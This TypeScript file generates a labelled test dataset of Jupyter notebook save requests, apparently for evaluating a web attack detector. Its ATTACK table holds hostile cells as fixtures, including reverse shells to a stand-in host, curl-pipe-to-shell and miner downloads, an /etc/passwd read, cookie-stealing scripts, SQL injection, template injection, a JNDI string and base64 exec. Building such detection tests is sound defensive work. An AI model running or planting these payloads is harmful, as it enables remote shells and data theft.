/**
 * Hand-written Jupyter notebook saves (session 33, nb33, issue 14): what a data scientist's notebook looks like when
 * Jupyter Server's contents API (`PUT /api/contents/<path>.ipynb`, JupyterLab, VS Code remote), a Colab-like app
 * (`POST …/notebooks/<id>/save`, the nbformat document itself) or a notebook-sharing app stores it — nbformat 4, each
 * cell's `source` an array of lines — with benign cells (pandas, matplotlib, scikit-learn, magics, `!pip install`, shell
 * escapes, `%%sql`, markdown with code spans and LaTeX, outputs) and adversarial ones (a reverse shell through
 * `os.system`/`subprocess`/`socket`, `!curl …|sh`, a `<script>` in a markdown cell or an HTML output, SQL injection,
 * template injection, a JNDI string, a file read of /etc/passwd), also posted to ordinary routes. Invented hosts and
 * names, written here, no captured traffic.
 *
 *   npx tsx datasets/notebook-saves.ts --out /tmp/notebooks.ndjson
 */
import { writeFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { RequestRecord } from '../src/eval/record.js';

export const NOTEBOOK_SAVES_SOURCE = 'notebook-saves';

type Cell = { cell_type: 'code' | 'markdown' | 'raw'; source: string | string[]; outputs?: unknown[] };

/** A cell's text as its lines, as nbformat writes it: each line keeps its `\n`, the last has none. */
export function lines(text: string): string[] {
  const out = text.split('\n').map((l) => `${l}\n`);
  out[out.length - 1] = out[out.length - 1].slice(0, -1);
  return out.filter((l) => l !== '');
}

const code = (text: string, outputs: unknown[] = []): Cell => ({ cell_type: 'code', source: lines(text), outputs });
const md = (text: string): Cell => ({ cell_type: 'markdown', source: lines(text) });

/** An nbformat 4 document of `cells`. */
export function notebook(cells: readonly Cell[]): Record<string, unknown> {
  return {
    cells: cells.map((c, i) => (c.cell_type === 'code' ? { cell_type: 'code', execution_count: i + 1, id: `c${i.toString(16).padStart(6, '0')}`, metadata: {}, outputs: c.outputs ?? [], source: c.source } : { cell_type: c.cell_type, id: `c${i.toString(16).padStart(6, '0')}`, metadata: {}, source: c.source })),
    metadata: { kernelspec: { display_name: 'Python 3 (ipykernel)', language: 'python', name: 'python3' }, language_info: { name: 'python', version: '3.12.7' } },
    nbformat: 4,
    nbformat_minor: 5,
  };
}

const stream = (text: string) => ({ name: 'stdout', output_type: 'stream', text: lines(text) });
const html = (text: string, plain: string) => ({ data: { 'text/html': lines(text), 'text/plain': lines(plain) }, execution_count: 3, metadata: {}, output_type: 'execute_result' });

const DATAFRAME_HTML = `<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }

    .dataframe thead th {
        text-align: right;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>site</th>
      <th>dose</th>
      <th>y</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>A</td>
      <td>10.0</td>
      <td>3.21</td>
    </tr>
  </tbody>
</table>
</div>`;

/** Benign notebooks: each is a list of cells a data scientist writes. */
const BENIGN: Record<string, Cell[]> = {
  'eda-pandas': [
    md('# Exploratory analysis of the visits table\nData: `visits_2026-11.parquet`, one row per visit.'),
    code('%matplotlib inline\nimport numpy as np\nimport pandas as pd\nimport matplotlib.pyplot as plt\nimport seaborn as sns'),
    code("df = pd.read_parquet('data/visits_2026-11.parquet')\ndf.shape"),
    code('display(df.sample(5))', [html(DATAFRAME_HTML, '  site  dose     y\n0    A  10.0  3.21')]),
    code("df.groupby('site')['y'].agg(['mean', 'std', 'count'])"),
    code("fig, ax = plt.subplots(figsize=(8, 4))\nsns.histplot(df, x='y', hue='arm', ax=ax)\nax.set_title('Outcome by arm')\nplt.show()"),
    code("print(boot.mean())\nprint(df.isna().sum())", [stream('3.2114\nsite    0\ndose    0\ny       2')]),
    code("df = df.dropna(subset=['y'])\ndf['log_y'] = np.log1p(df['y'])\ndf.describe()"),
  ],
  'sklearn-model': [
    md('## Baseline model\nA random forest on the engineered features; metric: ROC AUC ($\\frac{TP}{TP+FN}$ at the chosen threshold).'),
    code('!pip install -q scikit-learn==1.5.2 xgboost'),
    code('from sklearn.model_selection import train_test_split, cross_val_score\nfrom sklearn.ensemble import RandomForestClassifier\nfrom sklearn.metrics import roc_auc_score, classification_report'),
    code("X = df.drop(columns=['churned'])\ny = df['churned']\nX_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=42, stratify=y)"),
    code('clf = RandomForestClassifier(n_estimators=300, max_depth=8, n_jobs=-1)\nclf.fit(X_train, y_train)\nprint(roc_auc_score(y_test, clf.predict_proba(X_test)[:, 1]))'),
    code("scores = cross_val_score(clf, X, y, cv=5, scoring='roc_auc')\nprint(f'{scores.mean():.3f} ± {scores.std():.3f}')"),
    code('print(classification_report(y_test, clf.predict(X_test)))'),
    code("import joblib\njoblib.dump(clf, 'models/rf_v3.joblib')"),
  ],
  'shell-and-magics': [
    code('%load_ext autoreload\n%autoreload 2'),
    code('!ls -lh data/ | head -20\n!wc -l data/*.csv'),
    code('!nvidia-smi'),
    code('%%bash\nset -e\nmkdir -p data/raw\ncd data/raw\ngunzip -kf events_2026-11.csv.gz\nls -lh'),
    code('%env CUDA_VISIBLE_DEVICES=0\n%timeit np.dot(a, b)'),
    code("import os\nos.makedirs('outputs', exist_ok=True)\nprint(os.getcwd())"),
    code("import subprocess\nout = subprocess.run(['git', 'rev-parse', '--short', 'HEAD'], capture_output=True, text=True)\nprint(out.stdout.strip())"),
    code("!git log --oneline -5\n!du -sh ~/.cache/huggingface"),
  ],
  'sql-magic': [
    code('%load_ext sql\n%sql postgresql://analyst@warehouse.example-uni.ac.uk/visits'),
    code("%%sql\nSELECT site, count(*) AS n, avg(y) AS mean_y\nFROM visits\nWHERE visit_date >= '2026-11-01'\nGROUP BY site\nORDER BY n DESC\nLIMIT 20"),
    code("query = \"\"\"\nSELECT site, dose, y\nFROM visits\nWHERE arm = %(arm)s\n\"\"\"\ndf = pd.read_sql(query, engine, params={'arm': 'treatment'})"),
    code("df.to_sql('visits_clean', engine, if_exists='replace', index=False)"),
  ],
  'plots-and-text': [
    md('### Results\n\nThe effect of `dose` is small: see *Figure 2*.\n\n- fitted with `statsmodels` 0.14\n- random intercept per site'),
    code("plt.rcParams['figure.dpi'] = 120\nfor site, g in df.groupby('site'):\n    plt.plot(g['dose'], g['y'], 'o', label=site)\nplt.legend()\nplt.xlabel('dose (mg)')\nplt.ylabel('y')"),
    code("ax = df.plot.scatter(x='dose', y='y', c='DarkBlue')\nax.figure.savefig('figures/fig2.png', bbox_inches='tight')"),
    code("m = smf.mixedlm('y ~ dose + C(arm)', df, groups=df['site']).fit(reml=True)\nm.summary()"),
    code('from IPython.display import Markdown\nMarkdown(f"**AUC**: {auc:.3f}")'),
    md('$$\\hat{\\beta} = (X^T X)^{-1} X^T y$$'),
  ],
};

/** Adversarial cells (label attack): each is placed as the last cell of a benign notebook. */
const ATTACK: Record<string, Cell> = {
  'os-system-revshell': code("import os\nos.system('bash -c \"bash -i >& /dev/tcp/10.13.37.1/4444 0>&1\"')"),
  'subprocess-revshell': code("import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'nc -e /bin/sh 10.13.37.1 4444'])"),
  'socket-revshell': code("import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.13.37.1',4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])"),
  'bang-curl-sh': code('!curl -s http://10.13.37.1/x.sh | sh'),
  'bang-wget-chmod': code('!wget -q http://10.13.37.1/miner -O /tmp/m && chmod +x /tmp/m && /tmp/m'),
  'read-passwd': code("print(open('/etc/passwd').read())"),
  'markdown-script': md('## Notes\n<script>fetch("https://x.example/c?"+document.cookie)</script>'),
  'markdown-img-onerror': md('See the chart:\n<img src=x onerror="alert(document.domain)">'),
  'html-output-script': code('display(df.head())', [html('<div>\n<script>new Image().src="//x.example/?"+document.cookie</script>\n</div>', 'df')]),
  'sql-injection-string': code("df = pd.read_sql(\"SELECT * FROM users WHERE name = '\" + name + \"'\", engine)\nname = \"' OR '1'='1' --\""),
  'sql-union': code("q = \"1 UNION SELECT username, password FROM users--\"\nrequests.get(f'http://api.local/items?id={q}')"),
  'ssti': md("Hello {{''.__class__.__mro__[1].__subclasses__()}}"),
  'jndi': code("headers = {'User-Agent': '${jndi:ldap://x.example/a}'}"),
  'eval-b64': code("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))"),
};

const HEADERS = (host: string) => ({
  Host: host,
  'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  Accept: 'application/json, text/plain, */*',
  'Content-Type': 'application/json',
  Origin: `https://${host}`,
  'X-XSRFToken': 'q7LkU2m9Vb0ZrT4sPw1yXe8NcHdA3fGj',
});

/** The routes a notebook is saved on: Jupyter Server's contents model, a Colab-like app's save of the document, an ordinary API given the document (no notebook route), and one given it inside another field (no notebook body: its lines are scored one by one). */
const ROUTES: { name: string; record: (file: string, nb: Record<string, unknown>) => Pick<RequestRecord, 'method' | 'path' | 'query' | 'headers' | 'body'> }[] = [
  { name: 'contents', record: (file, nb) => ({ method: 'PUT', path: `/user/aosei/api/contents/analysis/${file}.ipynb`, query: '', headers: HEADERS('hub.example-uni.ac.uk'), body: JSON.stringify({ type: 'notebook', format: 'json', content: nb }) }) },
  { name: 'app-save', record: (file, nb) => ({ method: 'POST', path: `/api/v1/notebooks/${file}/save`, query: '', headers: HEADERS('lab.example-data.io'), body: JSON.stringify(nb) }) },
  { name: 'ordinary', record: (_file, nb) => ({ method: 'POST', path: '/api/v1/records', query: '', headers: HEADERS('api.example.test'), body: JSON.stringify(nb) }) },
  { name: 'nested', record: (_file, nb) => ({ method: 'POST', path: '/api/v1/records', query: '', headers: HEADERS('api.example.test'), body: JSON.stringify({ kind: 'note', value: nb }) }) },
];

export function notebookSaves(): RequestRecord[] {
  const out: RequestRecord[] = [];
  for (const route of ROUTES) {
    for (const [name, cells] of Object.entries(BENIGN)) {
      out.push({ id: `nb/${route.name}/benign/${name}`, source: NOTEBOOK_SAVES_SOURCE, label: 'benign', category: `benign-${route.name}`, ...route.record(name, notebook(cells)) });
    }
    const names = Object.keys(BENIGN);
    let k = 0;
    for (const [name, cell] of Object.entries(ATTACK)) {
      const host = BENIGN[names[k++ % names.length]];
      out.push({ id: `nb/${route.name}/attack/${name}`, source: NOTEBOOK_SAVES_SOURCE, label: 'attack', category: `attack-${route.name}`, ...route.record(name, notebook([...host, cell])) });
      // The same cell alone in a notebook, and between the others.
      out.push({ id: `nb/${route.name}/attack/${name}/alone`, source: NOTEBOOK_SAVES_SOURCE, label: 'attack', category: `attack-${route.name}`, ...route.record(name, notebook([cell])) });
    }
  }
  return out;
}

if (process.argv[1] !== undefined && resolve(process.argv[1]) === resolve(new URL(import.meta.url).pathname)) {
  const at = process.argv.indexOf('--out');
  const file = at < 0 ? undefined : process.argv[at + 1];
  if (file === undefined) {
    process.stderr.write('usage: npx tsx datasets/notebook-saves.ts --out FILE.ndjson\n');
    process.exit(2);
  }
  const records = notebookSaves();
  writeFileSync(file, `${records.map((r) => JSON.stringify(r)).join('\n')}\n`);
  process.stdout.write(`${records.length} records -> ${file}\n`);
}
